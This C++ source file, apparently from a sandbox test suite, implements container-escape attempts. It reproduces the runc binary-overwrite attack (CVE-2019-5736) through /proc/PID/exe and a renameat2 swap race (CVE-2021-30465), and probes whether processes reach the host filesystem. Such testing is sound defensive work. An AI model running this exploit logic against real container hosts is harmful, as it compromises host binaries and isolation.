// Attacks that win, where they win, by being quicker: two names exchanged without a pause, and the programs of
// processes that enter the container. Reads: rename(2) (RENAME_EXCHANGE), proc(5), CVE-2021-30465, CVE-2019-5736.
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <set>

#include "tests/kernel/escapes/attacks/attempt.h"

namespace attacks {

namespace {

// What became of the processes that entered while somebody waited for them.
struct Catch {
  int seen = 0;         // processes that are not this one's own program, or could not be looked at
  int held = 0;         // whose program could be opened
  int overwritten = 0;  // and written to
  int outside = 0;      // whose root, directory or descriptors led to the host
};

std::set<pid_t> processes() {
  std::set<pid_t> found;
  const std::unique_ptr<DIR, int (*)(DIR*)> proc(::opendir("/proc"), ::closedir);
  while (const dirent* entry = proc ? ::readdir(proc.get()) : nullptr) {
    if (const int pid = std::atoi(entry->d_name); pid > 1) found.insert(pid);
  }
  return found;
}

// WHY first for reading: a program that runs cannot be opened for writing (ETXTBSY), but what is held can be opened
// again, for writing, as soon as it has ended.
bool overwrite(int program, pid_t pid) {
  ::kill(pid, SIGKILL);
  const std::string again = "/proc/self/fd/" + std::to_string(program);
  for (int tries = 0; tries < 2000; ++tries) {
    const int fd = ::open(again.c_str(), O_WRONLY);
    if (fd >= 0) return ::write(fd, "overwritten", 11) == 11;
    if (errno != ETXTBSY) return false;
    ::usleep(100);
  }
  return false;
}

bool leads_outside(const std::string& process, const std::string& secret) {
  for (const char* place : {"/root", "/cwd", "/cwd/../../../../../..", "/fd/3", "/fd/4", "/fd/5", "/fd/6",
                            "/fd/7", "/fd/8", "/fd/9", "/fd/10", "/fd/11", "/fd/12"}) {
    const std::string led_to = process + place;
    if (::access((led_to + secret).c_str(), F_OK) == 0) return true;
  }
  return false;
}

bool same_file(int fd, const struct stat& other) {
  struct stat status {};
  return ::fstat(fd, &status) == 0 && status.st_dev == other.st_dev && status.st_ino == other.st_ino;
}

// False if there is more to come of this process: its program cannot be looked at yet.
bool meet(pid_t pid, const struct stat& own, const std::string& secret, Catch& result) {
  const std::string process = "/proc/" + std::to_string(pid);
  if (leads_outside(process, secret)) ++result.outside;
  const int program = ::open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
  if (program < 0 && errno != ENOENT) return false;
  ++result.seen;
  if (program < 0) return true;
  const bool mine = same_file(program, own);
  if (!mine) ++result.held;
  if (!mine && overwrite(program, pid)) ++result.overwritten;
  ::close(program);
  return true;
}

}  // namespace

// As a runtime without protection enters: its own program, a file of the host, is what runs inside.
int enter_without_protection(const Facts& facts) {
  const long container = ::syscall(SYS_pidfd_open, number(facts, "pid"), 0);
  if (::setns(static_cast<int>(container), CLONE_NEWPID | CLONE_NEWNS) < 0) return 1;
  const pid_t child = ::fork();
  if (child == 0) {
    ::sleep(10);
    ::_exit(0);
  }
  ::waitpid(child, nullptr, 0);
  return 0;
}

// WHY statvfs(2) as well: a program that runs answers ETXTBSY, which would hide that nothing else is in the way.
int hold_first_program(const Facts&) {
  const int program = ::open("/proc/1/exe", O_RDONLY);
  struct statvfs mount {};
  if (program < 0 || ::fstatvfs(program, &mount) < 0) return 1;
  const int seals = ::fcntl(program, F_GET_SEALS);
  const bool sealed = seals >= 0 && (seals & F_SEAL_WRITE) != 0;
  std::puts((mount.f_flag & ST_RDONLY) != 0 || sealed ? "program READ-ONLY" : "program WRITABLE");
  return 0;
}

int swap_once(const Facts& facts) {
  const int result =
      ::renameat2(AT_FDCWD, facts.at("a").c_str(), AT_FDCWD, facts.at("b").c_str(), RENAME_EXCHANGE);
  if (result < 0) std::perror("renameat2");
  return result < 0 ? 1 : 0;
}

int swap_for_ever(const Facts& facts) {
  int failed = 0;
  while (failed == 0)
    failed = swap_once(facts);
  return failed;
}

int catch_runtimes(const Facts& facts) {
  struct stat own {};
  if (::stat("/proc/self/exe", &own) < 0) return 1;
  const std::string stop = facts.at("stop");
  Catch result;
  std::set<pid_t> known = processes();
  std::puts("watching now");
  std::fflush(stdout);
  while (::access(stop.c_str(), F_OK) != 0) {
    for (const pid_t pid : processes()) {
      if (!known.contains(pid) && meet(pid, own, facts.at("secret"), result)) known.insert(pid);
    }
  }
  std::printf("seen %d\nheld %d\noverwritten %d\noutside %d\n", result.seen, result.held, result.overwritten,
              result.outside);
  return 0;
}

}  // namespace attacks
